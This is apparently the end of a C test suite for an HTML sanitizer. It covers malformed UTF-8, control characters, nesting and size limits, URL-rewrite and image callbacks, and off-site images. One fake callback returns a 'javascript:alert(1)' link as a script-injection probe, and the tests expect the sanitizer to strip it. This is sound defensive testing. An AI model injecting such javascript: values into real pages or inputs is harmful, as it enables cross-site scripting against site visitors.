	static const char ctl[] = "<p>a\0b\x01\x1f\x7f"
	                          "c\td\r\ne\rf</p>";
	char *got;
	struct buf deep;
	struct trusted_html out;
	char *big;
	int i;

	got = san_opts(bad, sizeof(bad) - 1, NULL);
	CHECK_STR(got, "<p>a\xef\xbf\xbd"
	               "b\xef\xbf\xbd(c\xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbd"
	               "d\xf0\x9f\x98\x80</p>");
	free(got);
	got = san_opts(ctl, sizeof(ctl) - 1, NULL);
	CHECK_STR(got, "<p>abc\td\ne\nf</p>");
	free(got);
	check_clean("<p>&#0;&#1;&#x7f;&#xd800;x</p>");
	check_san("<p>\xd8\xb3\xd9\x84\xd8\xa7\xd9\x85 \xe4\xbd\xa0\xe5\xa5\xbd"
	          "</p>",
	          "<p>\xd8\xb3\xd9\x84\xd8\xa7\xd9\x85 \xe4\xbd\xa0\xe5\xa5\xbd"
	          "</p>");
	buf_init(&deep);
	for (i = 0; i < 400; i++)
		buf_puts(&deep, "<div><b>");
	buf_puts(&deep, "x");
	got = san_opts(deep.data, deep.len, NULL);
	CHECK(got != NULL);
	free(got);
	buf_free(&deep);
	big = xmalloc(SANITIZE_MAX_BYTES + 1);
	memset(big, 'a', SANITIZE_MAX_BYTES + 1);
	CHECK(sanitize_html(big, SANITIZE_MAX_BYTES + 1, NULL, &out) == -1);
	CHECK(out.html == NULL && out.len == 0);
	memcpy(big, "<p>", 3);
	CHECK(sanitize_html(big, SANITIZE_MAX_BYTES, NULL, &out) == 0);
	CHECK(out.len == SANITIZE_MAX_BYTES + 4); /* "<p>" a... "</p>" */
	free((char *)out.html);
	free(big);
	CHECK(sanitize_html(NULL, 0, NULL, &out) == 0);
	CHECK_STR(out.html, "");
	free((char *)out.html);
	CHECK(sanitize_html(NULL, 1, NULL, &out) == -1);
}

/* Old uploads rewritten to the library's URLs. */
static bool
fake_url(void *ctx, const char *url, struct buf *out)
{
	static const char old[] = "https://old.example/wp-content/uploads/";

	(*(int *)ctx)++;
	if (strncmp(url, old, sizeof(old) - 1) == 0) {
		const char *rest = url + sizeof(old) - 1;

		buf_puts(out, "/uploads/");
		buf_puts(out, rest + strcspn(rest, "x"));
		return true;
	}
	if (strcmp(url, "/evil") == 0) {
		buf_puts(out, "javascript:alert(1)");
		return true;
	}
	return false;
}

static int
fake_image(void *ctx, const char *url, struct markdown_image *out)
{
	(void)ctx;
	if (strcmp(url, "/uploads/x.jpg") == 0) {
		out->width = 800;
		out->height = 600;
		out->srcset = "/uploads/x-320.jpg 320w, /uploads/x.jpg 800w";
		out->webp_srcset = "/uploads/x-320.webp 320w";
		out->alt = "From the library";
		return 0;
	}
	return -1;
}

static void
test_callbacks(void)
{
	int calls = 0;
	struct sanitize_options opts = {fake_url, fake_image, &calls};
	static const char in[] =
	    "<p><a href=\"https://old.example/wp-content/uploads/2019/05/"
	    "x.jpg\"><img src=\"https://old.example/wp-content/uploads/2019/05/"
	    "x.jpg\" alt=\"X\" width=\"300\" height=\"200\"></a> "
	    "<a href=\"/evil\">e</a> <img src=\"/other.png\" width=\"10\" "
	    "height=\"20\"></p>";
	char *got = san_opts(in, sizeof(in) - 1, &opts);

	CHECK_STR(got,
	          "<p><a href=\"/uploads/x.jpg\"><picture><source "
	          "type=\"image/webp\" srcset=\"/uploads/x-320.webp 320w\" "
	          "sizes=\"" MARKDOWN_IMAGE_SIZES "\"><img "
	          "src=\"/uploads/x.jpg\" alt=\"X\" width=\"800\" "
	          "height=\"600\" srcset=\"/uploads/x-320.jpg 320w, "
	          "/uploads/x.jpg 800w\" sizes=\"" MARKDOWN_IMAGE_SIZES "\" "
	          "loading=\"lazy\" decoding=\"async\"></picture></a> e <img "
	          "src=\"/other.png\" alt=\"\" width=\"10\" height=\"20\" "
	          "loading=\"lazy\" decoding=\"async\"></p>");
	CHECK(calls >= 4);
	free(got);
	/* A gallery's thumbnail: a link whose only content is an image
	 * without alt takes the library's, so the link has a name. */
	{
		static const char g[] =
		    "<p><a href=\"/big\"><img src=\"/uploads/x.jpg\" "
		    "alt=\"\"></a><img src=\"/uploads/x.jpg\"></p>";

		got = san_opts(g, sizeof(g) - 1, &opts);
	}
	CHECK(got != NULL &&
	      strstr(got, "<a href=\"/big\"><picture>") != NULL &&
	      strstr(got, "alt=\"From the library\"") != NULL &&
	      strstr(got, "</picture></a><picture>") != NULL &&
	      strstr(got, "alt=\"\"") != NULL);
	free(got);
}

static char *
golden(const char *in, size_t len)
{
	return san_opts(in, len, NULL);
}

/* Images of other sites become links; inside a link, their alt text. */
static void
test_offsite_images(void)
{
	check_san("<p><img src=\"https://old.example/a.jpg\" alt=\"Old\"></p>",
	          "<p><a href=\"https://old.example/a.jpg\">Old</a></p>");
	check_san("<p><a href=\"/x\"><img src=\"//old.example/a.jpg\" "
	          "alt=\"In\"></a></p>",
	          "<p><a href=\"/x\">In</a></p>");
	check_san("<p><img src=\"\\\\old.example/a.jpg\" alt=\"\"></p>",
	          "<p><a href=\"%5C%5Cold.example/a.jpg\">"
	          "\\\\old.example/a.jpg</a></p>");
	check_san("<p><img src=\"/uploads/a.jpg\" alt=\"Here\"></p>",
	          "<p><img src=\"/uploads/a.jpg\" alt=\"Here\" "
	          "loading=\"lazy\" decoding=\"async\"></p>");
}

int
main(void)
{
	test_basics();
	test_drop_unwrap();
	test_attributes();
	test_urls();
	test_owasp();
	test_video();
	test_structure();
	test_text();
	test_callbacks();
	test_offsite_images();
	CHECK(test_golden("sanitize", golden) >= 10);
	TEST_DONE();
}
